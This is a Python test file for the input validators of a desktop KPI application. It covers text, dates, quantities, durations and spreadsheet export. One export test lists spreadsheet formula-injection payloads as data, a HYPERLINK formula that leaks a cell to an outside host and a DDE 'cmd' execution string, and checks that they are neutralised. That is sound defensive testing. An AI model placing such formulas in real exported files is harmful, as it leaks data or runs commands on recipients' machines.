"""The validators of domain/inputs.py (issue 14): one place for CLI, services and GUI."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kpi_desktop.domain.errors import RefusedValue
from kpi_desktop.domain.inputs import (
    check_date,
    check_minutes,
    check_quantity,
    check_text,
    export_cell,
    export_text,
    parse_quantity,
)

TODAY = dt.date(2026, 11, 23)


def _code(call) -> str:
    with pytest.raises(RefusedValue) as refused:
        call()
    return refused.value.code


@pytest.mark.parametrize("char", ["\x00", "\x01", "\x1b", "\x7f", "\x85", "\u202e", "\ud800",
                                  "\u2066", "\uffff"])
def test_control_characters_are_refused_with_the_field_named(char: str) -> None:
    with pytest.raises(RefusedValue) as refused:
        check_text(f"Nguyễn{char}Văn A", "full_name", row=7)
    assert refused.value.code == "text_control_character"
    assert refused.value.params == {"field": "full_name", "char": f"U+{ord(char):04X}",
                                    "row": 7}


def test_line_breaks_only_where_a_field_has_lines() -> None:
    assert check_text("dòng 1\ndòng 2\tcột", "reason", multiline=True) == \
        "dòng 1\ndòng 2\tcột"
    assert _code(lambda: check_text("số 12\n/UBND", "output_doc_number")) == \
        "text_control_character"
    assert check_text("  Co\u0301ng văn  ", "x") == "Cóng văn"  # NFC, stripped


def test_too_long_text_is_refused() -> None:
    with pytest.raises(RefusedValue) as refused:
        check_text("a" * 101, "name", max_length=100)
    assert refused.value.params == {"field": "name", "maximum": 100, "length": 101}


@pytest.mark.parametrize(("day", "ok"), [
    (dt.date(1, 1, 1), False), (dt.date(2019, 12, 31), False), (dt.date(2020, 1, 1), True),
    (TODAY, True), (dt.date(2027, 11, 24), True), (dt.date(2027, 11, 25), False),
    (dt.date(9999, 12, 31), False)])
def test_dates_lie_between_2020_and_a_year_ahead(day: dt.date, ok: bool) -> None:
    if ok:
        assert check_date(day, "work_date", today=TODAY) == day
    else:
        with pytest.raises(RefusedValue) as refused:
            check_date(day, "work_date", today=TODAY)
        assert refused.value.code == "date_out_of_range"
        assert refused.value.params["first"] == "2020-01-01"
        assert refused.value.params["last"] == "2027-11-24"


@pytest.mark.parametrize(("text", "code"), [
    ("1e999999", "quantity_too_large"), ("1e-30", "quantity_too_precise"),
    ("0", "quantity_not_positive"), ("-2", "quantity_not_positive"),
    ("NaN", "quantity_not_positive"), ("Infinity", "quantity_not_positive"),
    ("1.005", "quantity_too_precise"), ("10001", "quantity_too_large"),
    ("abc", "quantity_not_positive"), ("1" * 60, "quantity_not_positive"),
    ("1e9999999999", "quantity_not_positive")])
def test_implausible_quantities_are_refused(text: str, code: str) -> None:
    assert _code(lambda: parse_quantity(text)) == code


def test_plausible_quantities_pass_and_the_item_norm_asks_for_a_confirmation() -> None:
    assert parse_quantity("1,5") == Decimal("1.5")
    assert parse_quantity("2") == Decimal(2)
    assert parse_quantity("100") == Decimal(100)
    # 150 minutes a product: 9 fill a whole day (1440 minutes); 10 need a confirmation.
    assert check_quantity(Decimal(9), time_norm_minutes=Decimal(150), day_minutes=1440) == 9
    with pytest.raises(RefusedValue) as refused:
        check_quantity(Decimal(10), time_norm_minutes=Decimal(150), day_minutes=1440,
                       item="DC.02")
    assert refused.value.code == "quantity_needs_confirmation"
    assert refused.value.params == {"value": "10", "maximum": "9.6", "item": "DC.02"}
    assert check_quantity(Decimal(10), time_norm_minutes=Decimal(150), day_minutes=1440,
                          confirmed=True) == 10
    assert _code(lambda: check_quantity(Decimal(101))) == "quantity_needs_confirmation"
    with pytest.raises(RefusedValue):  # the hard bounds are never waived
        check_quantity(Decimal(20000), confirmed=True)


def test_durations_are_minutes_of_one_day() -> None:
    assert check_minutes("90", "time_norm_minutes") == 90
    for bad in ("-1", "1441", "1e9", "NaN", "x"):
        assert _code(lambda bad=bad: check_minutes(bad, "time_norm_minutes")) == \
            "duration_out_of_range"


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ('=HYPERLINK("http://x?leak="&B2,"Chi tiết")',
                        '\'=HYPERLINK("http://x?leak="&B2,"Chi tiết")'),
    ("+84 912", "'+84 912"), ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\n=1"),
    ("-5", "-5"), ("1,5", "1,5"), ("Công văn số 12", "Công văn số 12"),
    ("Nguyễn\x00Văn A", "Nguyễn\ufffdVăn A"), ("a\r\nb", "a\nb"), (Decimal("1.5"), Decimal("1.5")),
    (3, 3), (None, None)])
def test_export_cells_are_neutralised_the_owasp_way(value, expected) -> None:
    assert export_cell(value) == expected


@given(st.text())
def test_no_control_character_survives_an_export(text: str) -> None:
    cleaned = export_cell(text)
    assert not any(ord(c) < 32 and c not in "\t\n" for c in cleaned)
    assert not cleaned.startswith(("=", "+", "@", "\t", "\r"))
    assert export_text(cleaned) == cleaned


def test_the_agencys_daily_norm_is_a_duration_of_one_day(demo_dir) -> None:
    from kpi_desktop.runtime.paths import app_paths
    from kpi_desktop.services.context import AppServices
    from kpi_desktop.services.messages import describe
    from kpi_desktop.storage.backup import dump_database

    services = AppServices.open(app_paths(demo_dir))
    try:
        before = dump_database(demo_dir / "kpi.db")
        for value in ("100000", "-5", "1e9"):
            with pytest.raises(RefusedValue) as refused:
                services.agency.save_policy(
                    {"daily_norm_minutes": value}, version="test-1",
                    active_from=services.agency.today() + dt.timedelta(days=30))
            assert refused.value.code in ("duration_out_of_range", "policy_value_invalid")
            if value != "1e9":
                assert refused.value.code == "duration_out_of_range"
                assert "minutes from 0 to 1440" in describe(refused.value)
        assert dump_database(demo_dir / "kpi.db") == before
    finally:
        services.close()
